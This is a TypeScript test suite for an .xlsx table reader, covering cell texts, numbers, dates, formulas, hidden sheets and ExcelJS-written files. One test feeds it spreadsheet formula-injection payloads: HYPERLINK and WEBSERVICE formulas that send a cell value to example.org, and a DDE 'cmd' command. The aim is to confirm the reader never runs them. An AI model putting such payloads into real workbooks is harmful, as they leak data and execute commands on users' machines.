// Workbooks: cells, dates, formulas by their stored values, sheets, and files by other programs.
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Row } from './rows.ts';
import { openTable, type TableOptions } from './table.ts';
import { type FixtureParts, textRow, workbookFixture } from './workbook-fixture.ts';

async function read(fixture: FixtureParts | Uint8Array, options: TableOptions = {}) {
  const bytes = fixture instanceof Uint8Array ? fixture : workbookFixture(fixture);
  const table = await openTable('prov.xlsx', bytes, options);
  if (table.kind === 'refused') throw new Error(`refused: ${JSON.stringify(table.refusal)}`);
  const rows: Row[] = [];
  for await (const row of table.rows) rows.push(row);
  await table.close();
  return { table, rows, codes: table.problems.map((problem) => problem.code) };
}

// cell formats: 0 general, 1 date, 2 date and time, 3 hours past 24, 4 per cent, 5 a coloured number, 6 built-in date
const styles =
  '<numFmts><numFmt numFmtId="164" formatCode="yyyy\\-mm\\-dd;@"/><numFmt numFmtId="165" formatCode="d/m/yyyy\\ hh:mm"/>' +
  '<numFmt numFmtId="166" formatCode="[h]:mm"/><numFmt numFmtId="167" formatCode="[Red]#,##0.00&quot; kr d&quot;"/></numFmts>' +
  '<cellStyleXfs><xf numFmtId="14"/></cellStyleXfs><cellXfs><xf numFmtId="0"/><xf numFmtId="164"/><xf numFmtId="165"/>' +
  '<xf numFmtId="166"/><xf numFmtId="10"/><xf numFmtId="167"/><xf numFmtId="14"/></cellXfs>';

describe('the cells of a workbook', () => {
  it('keep shared, formatted and inline texts, without reading aids', async () => {
    const { rows } = await read({
      sheets: {
        Blad: `${textRow(1, 'a', 'b', 'c')}<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="s"><v>1</v></c><c r="C2" t="inlineStr"><is><r><t>in</t></r><r><t>line</t></r></is></c></row>`,
      },
      sharedStrings:
        '<si><t>Åre &amp; Ås_x000D_</t></si><si><r><t>fet </t></r><r><t>och mager</t></r><rPh><t>aid</t></rPh></si>',
    });
    expect(rows[0]?.cells).toEqual(['Åre & Ås\r', 'fet och mager', 'inline']);
  });

  it('give numbers with their own digits, noise taken away, and the raw text beside', async () => {
    const numbers = ['1234.5000000001', '0.30000000000000004', '1.2E3', '1234.567', '1E-3', '-0', '99999999999.99'];
    const cells = numbers.map((number, i) => `<c r="${String.fromCharCode(65 + i)}2"><v>${number}</v></c>`);
    const { rows } = await read({ sheets: { Blad: `${textRow(1, ...'abcdefg')}<row r="2">${cells.join('')}</row>` } });
    expect(rows[0]?.cells).toEqual(['1234.5', '0.3', '1200', '1234.567', '0.001', '0', '99999999999.99']);
    expect(rows[0]?.raw?.[0]).toBe('1234.5000000001');
    expect(rows[0]?.raw?.[3]).toBeUndefined();
    expect(rows[0]?.kinds).toEqual(numbers.map(() => 'number'));
  });

  it('become dates, times and per cent by their format', async () => {
    const { rows } = await read({
      sheets: {
        Blad:
          `${textRow(1, ...'abcdefgh')}<row r="2"><c r="A2" s="1"><v>43708</v></c><c r="B2" s="2"><v>43708.5868055556</v></c>` +
          '<c r="C2" s="3"><v>1.3125</v></c><c r="D2" s="4"><v>0.532</v></c><c r="E2" s="5"><v>1000.5</v></c>' +
          '<c r="F2" s="6"><v>1</v></c><c r="G2" t="b"><v>1</v></c><c r="H2" t="d"><v>2019-08-31T00:00:00</v></c></row>',
      },
      styles,
    });
    const expected = [
      '2019-08-31',
      '2019-08-31 14:05:00',
      '31:30:00',
      '53.2',
      '1000.5',
      '1900-01-01',
      'true',
      '2019-08-31',
    ];
    expect(rows[0]?.cells).toEqual(expected);
    expect(rows[0]?.kinds).toEqual(['date', 'date', 'time', 'number', 'number', 'date', 'boolean', 'date']);
  });

  it('follow the 1904 calendar where the workbook says so', async () => {
    const sheet = `${textRow(1, 'dag')}<row r="2"><c r="A2" s="1"><v>42246</v></c></row>`;
    const { rows } = await read({ sheets: { Blad: sheet }, styles, date1904: true });
    expect(rows[0]?.cells).toEqual(['2019-08-31']);
  });

  it('with a day that never was are reported: 29 February 1900 and the year 10000', async () => {
    const day = (line: number, serial: number) => `<row r="${line}"><c r="A${line}" s="1"><v>${serial}</v></c></row>`;
    const { rows } = await read({
      sheets: { Blad: textRow(1, 'dag') + day(2, 59) + day(3, 60) + day(4, 61) + day(5, 3e6) },
      styles,
    });
    expect(rows.map((row) => row.cells[0])).toEqual(['1900-02-28', '60', '1900-03-01', '3000000']);
    expect(rows.map((row) => row.problems?.[0]?.code)).toEqual([
      undefined,
      'impossible-serial',
      undefined,
      'impossible-serial',
    ]);
  });

  it('with an error are reported with line and letter', async () => {
    const { rows, table } = await read({
      sheets: { Blad: `${textRow(1, 'a', 'b')}<row r="12"><c r="B12" t="e"><v>#REF!</v></c></row>` },
    });
    expect(rows[0]).toMatchObject({ line: 12, cells: ['', ''] });
    expect(table.problems).toEqual([{ code: 'cell-error', severity: 'error', line: 12, address: 'B', value: '#REF!' }]);
  });

  it('right of the headings are reported as a shifted column, empty ones are not', async () => {
    const sheet = `${textRow(1, 'a', 'b')}${textRow(2, '1', '2')}${textRow(3, '1', '2', '3')}<row r="4"><c r="A4"><v>1</v></c><c r="ZZ4" s="1"/></row>`;
    const { rows } = await read({ sheets: { Blad: sheet }, styles });
    expect(rows.map((row) => row.problems?.[0]?.code)).toEqual([undefined, 'column-count', undefined]);
    expect(rows[1]?.problems?.[0]).toMatchObject({ line: 3, value: '3', expected: { is: 'count', count: 2 } });
    expect(rows[2]?.cells).toEqual(['1', '']);
  });
});

describe('formulas', () => {
  const row = (line: number, formula: string, value: string) =>
    `<row r="${line}"><c r="A${line}"><f>${formula}</f>${value}</c></row>`;

  it('are never run: the saved value is taken', async () => {
    const { rows, codes } = await read({ sheets: { Blad: textRow(1, 'summa') + row(2, '1+1', '<v>3</v>') } });
    expect(rows[0]?.cells).toEqual(['3']);
    expect(codes).toEqual([]);
  });

  it('without a saved value are a problem of their row', async () => {
    const { rows } = await read({ sheets: { Blad: textRow(1, 'summa') + row(2, 'SUM(B1:B9)', '') } });
    expect(rows[0]?.problems?.[0]).toMatchObject({
      code: 'formula-without-value',
      line: 2,
      address: 'A',
      value: '=SUM(B1:B9)',
    });
  });

  it.each([
    'HYPERLINK("http://example.org/?"&amp;A1,"Klicka")',
    'WEBSERVICE("http://example.org/"&amp;A1)',
    "cmd|' /C calc'!A0",
    '[1]Blad1!A1',
  ])('that reach out of the file are named but not run: %s', async (formula) => {
    const { rows, table } = await read({ sheets: { Blad: textRow(1, 'x') + row(2, formula, '<v>7</v>') } });
    expect(rows[0]).toMatchObject({ cells: ['7'] });
    expect(rows[0]?.problems).toBeUndefined();
    expect(table.problems[0]).toMatchObject({ code: 'formula-not-run', severity: 'note', line: 2, address: 'A' });
  });

  it('by the thousand are noted twenty times and counted', async () => {
    const many = Array.from({ length: 1000 }, (_, i) => row(i + 2, 'WEBSERVICE("x")', '<v>1</v>')).join('');
    const { table, rows } = await read({ sheets: { Blad: textRow(1, 'x') + many } });
    expect(rows).toHaveLength(1000);
    expect(table.problems).toHaveLength(20);
    expect(table.unlisted).toBe(980);
  });
});

describe('the sheets of a workbook', () => {
  const fixture: FixtureParts = {
    sheets: {
      Dold: textRow(1, 'hemlig') + textRow(2, 'x'),
      Data: textRow(1, 'a') + textRow(2, '1'),
      Mer: textRow(1, 'b') + textRow(2, '2'),
      Gömd: '',
    },
    states: { Dold: 'hidden', Gömd: 'veryHidden' },
  };

  it('are listed, the first visible one is read, and hidden ones are named', async () => {
    const { table, rows } = await read(fixture);
    expect(table.sheet).toBe('Data');
    expect(rows[0]?.cells).toEqual(['1']);
    expect(table.sheets).toEqual([
      { name: 'Dold', state: 'hidden' },
      { name: 'Data', state: 'visible' },
      { name: 'Mer', state: 'visible' },
      { name: 'Gömd', state: 'very-hidden' },
    ]);
    expect(table.problems.map(({ code, value }) => [code, value])).toEqual([
      ['hidden-sheet', 'Dold'],
      ['hidden-sheet', 'Gömd'],
    ]);
  });

  it('are chosen by name', async () => {
    expect((await read(fixture, { sheet: 'Mer' })).rows[0]?.cells).toEqual(['2']);
    const refused = await openTable('x.xlsx', workbookFixture(fixture), { sheet: 'Finns inte' });
    expect(refused).toMatchObject({ kind: 'refused', refusal: { code: 'no-such-sheet', value: 'Finns inte' } });
  });

  it('say how many hidden rows were read, and skip a title above the headings', async () => {
    const sheet = `${textRow(1, 'Rapport')}${textRow(3, 'a', 'b', 'c')}${textRow(4, '1', '2', '3')}<row r="5" hidden="1"><c r="A5"><v>9</v></c></row>`;
    const { table, codes } = await read({ sheets: { Blad: sheet } });
    expect(table.headerLine).toBe(3);
    expect(codes.sort()).toEqual(['hidden-rows', 'title-lines']);
  });

  it('may be written with a prefix, in UTF-16, and without cell references', async () => {
    const xml =
      '<?xml version="1.0" encoding="UTF-16"?><x:worksheet xmlns:x="m"><x:sheetData><x:row><x:c t="inlineStr"><x:is><x:t>å</x:t></x:is></x:c>' +
      '<x:c t="inlineStr"><x:is><x:t>b</x:t></x:is></x:c></x:row><x:row><x:c><x:v>1</x:v></x:c><x:c><x:v>2</x:v></x:c></x:row></x:sheetData></x:worksheet>';
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, 'utf16le')]);
    const { zipSync, strToU8 } = await import('fflate');
    const { workbookTexts } = await import('./workbook-fixture.ts');
    const texts = workbookTexts({ sheets: { Blad: '' } });
    const parts = Object.fromEntries(Object.entries(texts).map(([name, text]) => [name, strToU8(text)]));
    const { table, rows } = await read(zipSync({ ...parts, 'xl/worksheets/sheet1.xml': new Uint8Array(bytes) }));
    expect(table.header.map(({ name }) => name)).toEqual(['å', 'b']);
    expect(rows).toMatchObject([{ line: 2, cells: ['1', '2'] }]);
  });
});

describe('a workbook written by another program', () => {
  it('is read with its dates, numbers, formulas and rich texts', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Utfall');
    sheet.addRow(['Datum', 'Belopp', 'Text', 'Summa']);
    const row = sheet.addRow([
      new Date('2019-08-31'),
      1234.5,
      { richText: [{ text: 'Å' }, { text: 're' }] },
      { formula: 'B2*2', result: 2469 },
    ]);
    row.getCell(1).numFmt = 'yyyy-mm-dd';
    const { rows } = await read(new Uint8Array(await workbook.xlsx.writeBuffer()));
    expect(rows[0]?.cells).toEqual(['2019-08-31', '1234.5', 'Åre', '2469']);
  });

  it('with any texts and amounts gives them back', async () => {
    const text = fc
      .string({ maxLength: 12 })
      .filter((value) => /^[\x20-\x7eåäöÅÄÖ]*$/.test(value) && value.trim() !== '');
    const line = fc.tuple(text, fc.integer({ min: -1e12, max: 1e12 }));
    await fc.assert(
      fc.asyncProperty(fc.array(line, { minLength: 1, maxLength: 20 }), async (lines) => {
        const workbook = new ExcelJS.Workbook();
        const sheet = workbook.addWorksheet('Blad');
        sheet.addRow(['Text', 'Belopp']);
        for (const [label, ore] of lines) sheet.addRow([label, ore / 100]);
        const { rows } = await read(new Uint8Array(await workbook.xlsx.writeBuffer()));
        expect(rows.map((row) => [row.cells[0], Math.round(Number(row.cells[1]) * 100)])).toEqual(
          lines.map(([label, ore]) => [label, ore === 0 ? 0 : ore]),
        );
      }),
      { numRuns: 25 },
    );
  });
});
